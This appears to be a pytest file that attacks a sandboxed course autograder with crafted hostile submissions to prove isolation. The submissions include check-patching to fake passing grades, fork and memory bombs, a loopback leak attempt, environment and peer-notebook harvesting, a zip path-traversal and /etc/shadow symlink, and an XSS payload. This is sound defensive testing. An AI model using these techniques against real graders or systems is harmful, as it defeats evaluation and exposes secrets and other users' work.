@@ -1,0 +1,355 @@
+"""The class grader, proven from the outside: hostile and broken submissions graded in one batch, each gets its
+results and nothing of theirs reaches the grader, the machine or the other submissions; learners' solutions get
+the verdicts of the in-process checks; Gradescope's autograder runs in a simulated /autograder tree."""
+import copy
+import csv
+import json
+import os
+import re
+import socket
+import subprocess
+import sys
+import threading
+import uuid
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from dlnd import grade, gradescope, sandbox
+from dlnd.notebook import NOTEBOOK, VARIANTS_NOTEBOOK, read
+from learner_solutions import SOLUTIONS
+from test_review import with_solution, write
+
+ROOT = Path(__file__).resolve().parent.parent
+MARKER = f'dlnd-leftover-{uuid.uuid4().hex[:8]}'
+SECRET = f'grader-secret-{uuid.uuid4().hex}'
+OTHER_LEARNER = f'another learner wrote this {uuid.uuid4().hex}'
+
+pytestmark = pytest.mark.skipif(sandbox.unavailable() is not None, reason=f'no sandbox: {sandbox.unavailable()}')
+
+
+def injected(nb, function, lines):
+    """The notebook with `lines` run first in `function`'s body (its stored outputs kept)."""
+    nb = copy.deepcopy(nb)
+    for cell in nb['cells']:
+        source = ''.join(cell['source'])
+        start = source.find(f'def {function}(')
+        if cell['cell_type'] == 'code' and start >= 0:
+            body = source.index('\n', source.index('):', start)) + 1
+            if source[body:].lstrip().startswith('"""'):  # past the docstring
+                body = source.index('\n', source.index('"""', source.index('"""', body) + 3)) + 1
+            cell['source'] = source[:body] + ''.join(f'    {line}\n' for line in lines) + source[body:]
+            return nb
+    raise AssertionError(f'no definition of {function}')
+
+
+class Listener:
+    """A TCP and a UDP socket on the host's loopback that must receive nothing."""
+
+    def __init__(self):
+        self.tcp = socket.create_server(('127.0.0.1', 0))
+        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.udp.bind(('127.0.0.1', self.tcp.getsockname()[1]))
+        self.port, self.received = self.tcp.getsockname()[1], []
+        for server in (self.tcp, self.udp):
+            server.settimeout(0.2)
+        self.running = True
+        self.thread = threading.Thread(target=self.listen, daemon=True)
+        self.thread.start()
+
+    def listen(self):
+        while self.running:
+            try:
+                connection, _ = self.tcp.accept()
+                self.received.append(('tcp', connection.recv(100)))
+            except OSError:
+                pass
+            try:
+                self.received.append(('udp', self.udp.recv(100)))
+            except OSError:
+                pass
+
+    def close(self):
+        self.running = False
+        self.thread.join()
+        self.tcp.close()
+        self.udp.close()
+
+
+def hostile_submissions(folder, port, outside_marker, other_notebook):
+    reference = read(NOTEBOOK)
+    one_logit_per_batch = injected(reference, 'discriminator', [
+        'import sys, problem_unittests, dlnd.graph_checks, dlnd.replay',
+        'problem_unittests.check_function = lambda name, function: []',
+        'dlnd.graph_checks.check = lambda condition, message: None',
+        "sys._getframe(1).f_globals['check'] = lambda condition, message: None",
+        "[setattr(getattr(problem_unittests, t), 'check', lambda f, s: None) for t in dir(problem_unittests) "
+        "if t.startswith('test_')]",
+        'dlnd.replay.record = lambda *args: {"passed": True}',
+        "print('Tests Passed')"])
+    cell = next(c for c in one_logit_per_batch['cells'] if 'def discriminator(' in ''.join(c['source']))
+    source = ''.join(cell['source'])
+    cell['source'] = source.replace('return tf.sigmoid(logits), logits',
+                                    'logits = tf.reduce_mean(logits, axis=0, keepdims=True)\n'
+                                    '        return tf.sigmoid(logits), logits')
+    assert cell['source'] != source
+    submissions = {
+        'patches_the_checks': one_logit_per_batch,
+        'exits_early': injected(injected(reference, 'model_inputs', ["print('Tests Passed')", 'import sys',
+                                                                      'sys.exit(0)']),
+                                'generator', ['import os', 'os._exit(0)']),
+        'kills_its_parent': injected(reference, 'model_loss', ['import os, signal', 'os.kill(os.getppid(), 9)']),
+        'loops_forever': injected(reference, 'generator', ['while True:', '    pass']),
+        'memory_bomb': injected(reference, 'generator', ['hoard = bytearray(6 * 2 ** 30)']),
+        'floods_its_output': injected(reference, 'train', ['import os', 'chunk = b"x" * 65536',
+                                                           'while True:', '    os.write(1, chunk)']),
+        'everything_else': injected(injected(injected(reference, 'model_inputs', [
+            'import subprocess, sys, os',
+            f"subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)', '{MARKER}'], "
+            'start_new_session=True)',
+            'children = []',
+            'try:',
+            '    for _ in range(100000):',
+            '        pid = os.fork()',
+            '        if pid == 0:',
+            '            import time; time.sleep(600)',
+            '        children.append(pid)',
+            'except OSError:',
+            '    pass']), 'discriminator', [
+            'import socket, os, glob',
+            'for connect in (lambda: socket.create_connection(("127.0.0.1", %d), 2).sendall(b"leak"),' % port,
+            '                lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"leak", '
+            '("127.0.0.1", %d))):' % port,
+            '    try:',
+            '        connect()',
+            '    except OSError:',
+            '        pass',
+            'for target in (%r, "/project/helper.py", "/input/x.ipynb"):' % str(outside_marker),
+            '    try:',
+            '        os.makedirs(os.path.dirname(target), exist_ok=True)',
+            '        open(target, "w").write("written from the sandbox")',
+            '    except OSError:',
+            '        pass',
+            'found = [open(p, errors="replace").read() for top in ("/tmp", "/input", "/records", "/project", "/root", '
+            '"/home", "/work", "/mnt", "/srv") for p in glob.glob(top + "/**/*.ipynb", recursive=True)]',
+            'found += [open(%r).read()] if os.path.exists(%r) else []' % (str(other_notebook), str(other_notebook)),
+            'filled = 0',
+            'try:',
+            '    for k in range(8):',
+            '        with open(f"/scratch/fill{k}", "wb") as fill:',
+            '            for _ in range(100):',
+            '                filled += fill.write(b"x" * 2 ** 20)',
+            'except OSError:',
+            '    pass',
+            "assert False, f'filled={filled} ' + 'env ' + repr(dict(os.environ)) + ' files ' + "
+            "repr([f[-200:] for f in found])"]),
+            'generator', ['raise RuntimeError("<img src=x onerror=\\"document.title=\'owned\'\\"><script>'
+                          'document.title=\'owned\'</script>")']),
+    }
+    paths = {name: write(nb, folder / f'{name}.ipynb') for name, nb in submissions.items()}
+    (folder / 'not_json.ipynb').write_bytes(b'\x89PNG not a notebook at all')
+    (folder / 'not_ours.ipynb').write_text(json.dumps({'cells': [{'cell_type': 'code', 'source': 'print(1)',
+                                                                   'outputs': []}], 'nbformat': 4}))
+    with zipfile.ZipFile(folder / 'climbs_out.zip', 'w') as archive:
+        archive.writestr('../../escaped.txt', 'outside')
+        archive.write(NOTEBOOK, 'dlnd_face_generation.ipynb')
+    with zipfile.ZipFile(folder / 'links_out.zip', 'w') as archive:
+        link = zipfile.ZipInfo('dlnd_face_generation.ipynb')
+        link.external_attr = 0o120777 << 16
+        archive.writestr(link, '/etc/shadow')
+    with open(folder / 'huge.ipynb', 'wb') as huge:
+        huge.truncate(grade.LARGEST_NOTEBOOK + 1)
+    return paths
+
+
+@pytest.fixture(scope='module')
+def hostile_batch(tmp_path_factory):
+    """One grading run over every hostile and broken submission, with the outside observers' findings."""
+    folder, out = tmp_path_factory.mktemp('submissions'), tmp_path_factory.mktemp('graded')
+    outside_marker = tmp_path_factory.mktemp('outside') / 'marker' / 'written.txt'
+    other = tmp_path_factory.mktemp('other_learner') / 'their.ipynb'
+    other.write_text(OTHER_LEARNER)
+    listener = Listener()
+    try:
+        hostile_submissions(folder, listener.port, outside_marker, other)
+        environment = {**os.environ, 'DLND_GRADER_SECRET': SECRET}
+        run = subprocess.run([sys.executable, '-m', 'dlnd.grade', str(folder), '--out', str(out), '--workers', '2',
+                              '--timeout', '150', '--check-timeout', '10', '--memory', '1.5'],
+                             cwd=ROOT, env=environment, capture_output=True, text=True, timeout=1200)
+    finally:
+        listener.close()
+    leftovers = [p for p in Path('/proc').glob('[0-9]*') if MARKER in _cmdline(p)]
+    return {'run': run, 'out': out, 'received': listener.received, 'marker': outside_marker, 'leftovers': leftovers,
+            'escaped': [p for p in (out.parent / 'escaped.txt', out / 'escaped.txt', folder.parent / 'escaped.txt')
+                        if p.exists()]}
+
+
+def _cmdline(proc):
+    try:
+        return (proc / 'cmdline').read_bytes().decode(errors='replace')
+    except OSError:
+        return ''
+
+
+def results_of(batch, name):
+    return json.loads((batch['out'] / name / 'results.json').read_text())
+
+
+def checks_of(batch, name):
+    return {test['name']: test for test in results_of(batch, name)['tests']}
+
+
+def test_the_batch_finishes_with_a_result_for_every_submission(hostile_batch):
+    run = hostile_batch['run']
+    assert run.returncode == 0, run.stderr[-3000:]
+    names = {p.name for p in hostile_batch['out'].iterdir() if p.is_dir()}
+    assert names == {'patches_the_checks', 'exits_early', 'kills_its_parent', 'loops_forever', 'memory_bomb',
+                     'floods_its_output', 'everything_else', 'not_json', 'not_ours', 'climbs_out', 'links_out', 'huge'}
+    assert 'graded 12 submissions' in run.stdout and '12 refused' not in run.stdout
+    for name in names:
+        for test in results_of(hostile_batch, name)['tests']:
+            assert test['output'].split('\n')[0].strip(), (name, test)
+            assert len(test['output'].split('\n')[0]) < 700, (name, test['output'][:300])
+
+
+def test_patching_the_checks_does_not_change_the_verdict(hostile_batch):
+    found = checks_of(hostile_batch, 'patches_the_checks')
+    assert found['discriminator']['status'] == 'failed'
+    assert 'one logit per image' in found['discriminator']['output'] or 'shape' in found['discriminator']['output']
+    assert found['model_inputs']['status'] == found['generator']['status'] == 'passed'
+
+
+def test_exiting_early_fails_the_functions_that_exit(hostile_batch):
+    found = checks_of(hostile_batch, 'exits_early')
+    assert found['model_inputs']['status'] == 'failed' and 'SystemExit' in found['model_inputs']['output']
+    assert found['generator']['status'] == 'failed' and 'exit status 0' in found['generator']['output']
+    assert found['discriminator']['status'] == 'passed'
+
+
+def test_killing_its_parent_loses_only_its_own_results(hostile_batch):
+    found = checks_of(hostile_batch, 'kills_its_parent')
+    assert [found[name]['status'] for name in ('model_inputs', 'discriminator', 'generator')] == ['passed'] * 3
+    assert all(found[name]['status'] == 'failed' for name in ('model_loss', 'model_opt', 'train'))
+    assert "sandbox" in found['model_opt']['output']
+
+
+def test_an_endless_loop_is_stopped_at_the_checks_time_limit(hostile_batch):
+    found = checks_of(hostile_batch, 'loops_forever')
+    assert found['generator']['status'] == 'failed' and 'time limit of 10 s' in found['generator']['output']
+    assert found['model_inputs']['status'] == found['discriminator']['status'] == 'passed'
+
+
+def test_a_memory_bomb_hits_the_memory_limit(hostile_batch):
+    results = results_of(hostile_batch, 'memory_bomb')
+    assert 'memory limit of 1.5 GiB' in results['output']
+    found = checks_of(hostile_batch, 'memory_bomb')
+    assert found['generator']['status'] == 'failed' and found['discriminator']['status'] == 'passed'
+
+
+def test_a_flood_of_output_is_cut_off(hostile_batch):
+    results = results_of(hostile_batch, 'floods_its_output')
+    assert 'printing more than 64 MB' in results['output']
+    found = checks_of(hostile_batch, 'floods_its_output')
+    assert found['train']['status'] == 'failed' and found['model_opt']['status'] == 'passed'
+
+
+def test_nothing_reaches_the_network_the_disk_or_the_grader(hostile_batch):
+    assert hostile_batch['received'] == []
+    assert not hostile_batch['marker'].exists()
+    assert hostile_batch['leftovers'] == []
+    assert (ROOT / 'helper.py').read_text().count('written from the sandbox') == 0
+    found = checks_of(hostile_batch, 'everything_else')
+    message = found['discriminator']['output']
+    assert 'an assert in your own code failed' in message and "'HOME'" in message  # it did read its environment
+    filled = int(re.search(r'filled=(\d+)', message)[1])
+    assert 0 < filled <= sandbox.Limits().scratch_bytes  # its scratch folder filled up, the disk did not
+    everything = (hostile_batch['out'] / 'everything_else' / 'results.json').read_text()
+    assert SECRET not in everything and OTHER_LEARNER not in everything
+    assert found['model_inputs']['status'] == 'passed'  # its forks and leftovers did not stop the grading
+
+
+def test_bad_files_are_refused_in_one_line(hostile_batch):
+    expected = {'not_json': 'is not a Jupyter notebook', 'not_ours': "is not one of the course's notebooks",
+                'climbs_out': 'member outside its folder', 'links_out': 'symbolic link',
+                'huge': 'larger than a notebook can be'}
+    for name, words in expected.items():
+        results = results_of(hostile_batch, name)
+        assert results['score'] == 0 and words in results['tests'][0]['output'], (name, results)
+    assert hostile_batch['escaped'] == []
+
+
+def test_grades_csv_has_a_row_per_submission_and_a_column_per_test(hostile_batch):
+    rows = list(csv.DictReader((hostile_batch['out'] / 'grades.csv').open()))
+    assert len(rows) == 12
+    row = next(r for r in rows if r['submission'] == 'patches_the_checks')
+    assert row['discriminator'] == '0.0' and row['model_inputs'] == '1.0' and row['max_score'] == '10.0'
+    assert 'memory limit' in next(r for r in rows if r['submission'] == 'memory_bomb')['problems']
+
+
+def test_the_feedback_page_renders_in_a_browser_with_the_learners_text_inert(hostile_batch, tmp_path):
+    chromium = next((c for c in ('chromium', 'chromium-browser', 'google-chrome') if _which(c)), None)
+    if chromium is None:
+        pytest.fail('no Chromium to render the feedback page: apt-get install chromium (make test does)')
+    page = hostile_batch['out'] / 'everything_else' / 'feedback.html'
+    dom = subprocess.run([chromium, '--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking',
+                          '--disable-component-update', '--no-first-run', '--disable-sync',
+                          f'--user-data-dir={tmp_path / "profile"}', '--dump-dom', page.as_uri()],
+                         capture_output=True, text=True, timeout=120).stdout
+    assert '<title>Review of everything_else</title>' in dom  # no script of the learner's ran
+    assert 'Does not meet' in dom and 'Meets' in dom and 'model_inputs returns the real-image' in dom
+    assert '&lt;script&gt;' in dom and '<script>' not in dom
+
+
+def _which(name):
+    from shutil import which
+    return which(name)
+
+
+# --- real submissions: the verdicts of the checks in-process, sandboxed or not -------------------------------
+
+@pytest.mark.parametrize('style', sorted(SOLUTIONS)[:1])
+def test_learner_solutions_get_the_in_process_verdicts_without_the_sandbox_too(style, tmp_path):
+    import problem_unittests as tests
+    from dlnd.notebook import GRADED, load_functions
+    path = write(with_solution(read(NOTEBOOK), SOLUTIONS[style][0]), tmp_path / f'{style}.ipynb')
+    expected = {}
+    for name in GRADED:
+        try:
+            expected[name] = ('passed', tests.check_function(name, load_functions(tests.tf, notebook=path)[name]))
+        except AssertionError as e:
+            expected[name] = ('failed', str(e))
+    for sandboxed in (True, False):
+        graded = grade.grade_notebook(path, sandboxed=sandboxed)
+        found = {key: ('passed' if met else 'failed', suggestions if met else reason)
+                 for key, _, met, reason, suggestions in graded['lines'] if key in GRADED}
+        assert found == expected, sandboxed
+
+
+def test_without_the_sandbox_the_grader_refuses_unless_told(tmp_path):
+    environment = {**os.environ, 'DLND_BWRAP': '/nonexistent/bwrap'}
+    refused = subprocess.run([sys.executable, '-m', 'dlnd.grade', str(NOTEBOOK), '--out', str(tmp_path)],
+                             cwd=ROOT, env=environment, capture_output=True, text=True)
+    assert refused.returncode == 2 and 'refusing to grade: the sandbox is not available' in refused.stderr
+    assert 'bubblewrap' in refused.stderr and not any(tmp_path.iterdir())
+
+
+def test_gradescope_autograder_runs_in_a_simulated_tree(tmp_path):
+    bundle = gradescope.bundle(tmp_path / 'autograder.zip')
+    root = tmp_path / 'autograder'
+    with zipfile.ZipFile(bundle) as archive:
+        archive.extractall(root / 'source')
+        assert {'setup.sh', 'run_autograder', 'problem_unittests.py', 'dlnd/grade.py'} <= set(archive.namelist())
+        assert (archive.getinfo('run_autograder').external_attr >> 16) & 0o111
+    (root / 'submission').mkdir()
+    with zipfile.ZipFile(root / 'submission' / 'submission.zip', 'w') as archive:
+        archive.write(VARIANTS_NOTEBOOK, 'gan_variants.ipynb')
+        archive.write(NOTEBOOK, 'dlnd_face_generation.ipynb')
+    run = subprocess.run(['bash', str(root / 'source' / 'run_autograder')], capture_output=True, text=True,
+                         env={**os.environ, 'AUTOGRADER_ROOT': str(root), 'PYTHON': sys.executable}, timeout=600)
+    assert run.returncode == 0, run.stderr[-2000:]
+    results = json.loads((root / 'results' / 'results.json').read_text())
+    names = [test['name'] for test in results['tests']]
+    assert 'fc_discriminator' in names and 'augmented_model_loss' in names and len(names) == 14
+    assert results['score'] == 14 and all(t['status'] == 'passed' for t in results['tests'])
+    assert 'GAN family notebook: 14 of 14 rubric lines met' in results['output']
